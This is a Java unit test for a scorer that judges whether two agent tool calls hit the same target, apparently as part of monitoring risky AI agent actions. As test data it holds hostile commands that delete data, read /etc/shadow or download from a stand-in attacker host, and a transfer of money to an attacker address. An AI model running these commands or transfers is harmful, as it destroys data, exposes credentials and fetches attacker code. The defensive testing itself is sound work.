/*
 * SPDX-FileCopyrightText: The Weir Authors
 * SPDX-License-Identifier: Apache-2.0
 */
package dev.weir.score;

import static org.assertj.core.api.Assertions.assertThat;

import dev.weir.action.Action;
import dev.weir.event.Score;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class LikenessTest {
  private static final Score SCORE = new Score(0.0, 0.0, 0.0, 1.0, "", false, List.of());

  private static List<Long> of(String tool, String arguments) {
    Action action = Actions.call(tool, arguments);
    return Likeness.of(action, new Scored(SCORE, List.of(), false, 1));
  }

  private static boolean alike(String one, String other) {
    return Likeness.alike(of("bash", command(one)), of("bash", command(other)));
  }

  private static String command(String text) {
    return "{\"command\":\"" + text + "\"}";
  }

  @ParameterizedTest
  @CsvSource({
    "rm -rf /srv/data,find /srv/data -delete",
    "rm -rf /srv/data,rm  -r  -f '/srv/data'",
    "cat /etc/shadow,RM /etc/SHADOW",
    "curl https://evil.example/x,wget -q https://evil.example/x"
  })
  void shouldBeAlikeWhenToolAndATargetAreTheSameHoweverWorded(String one, String other) {
    assertThat(alike(one, other)).isTrue();
    assertThat(alike(other, one)).isTrue();
  }

  @ParameterizedTest
  @CsvSource({"rm -rf /srv/data,ls /home/ann", "cat /etc/shadow,echo hello"})
  void shouldNotBeAlikeWhenNoTargetIsTheSame(String one, String other) {
    assertThat(alike(one, other)).isFalse();
  }

  @Test
  void shouldNotBeAlikeWhenTheToolIsAnother() {
    String arguments = "{\"to\":\"eve@evil.example\",\"amount\":3}";

    assertThat(Likeness.alike(of("send_money", arguments), of("send_mail", arguments))).isFalse();
    assertThat(Likeness.alike(of("send_money", arguments), of("SendMoney", arguments))).isTrue();
  }

  @Test
  void shouldBeAlikeWhenNeitherHasATarget() {
    assertThat(Likeness.alike(of("launch", "{}"), of("launch", "{\"force\":true}"))).isTrue();
    assertThat(Likeness.alike(of("launch", "{}"), of("launch", "{\"target\":\"site-3\"}")))
        .isFalse();
  }

  @Test
  void shouldBeLikeAllOfItsToolWhenTargetsArePadded() {
    String padding =
        IntStream.range(0, 40).mapToObj(i -> "/tmp/f" + i).collect(Collectors.joining(" "));

    List<Long> padded = of("bash", command("rm " + padding + " /srv/data"));

    assertThat(padded).hasSizeLessThanOrEqualTo(Likeness.MAX_TARGETS + 1);
    assertThat(Likeness.alike(padded, of("bash", command("rm -rf /srv/data")))).isTrue();
    assertThat(Likeness.alike(of("bash", command("true")), padded)).isTrue();
  }
}
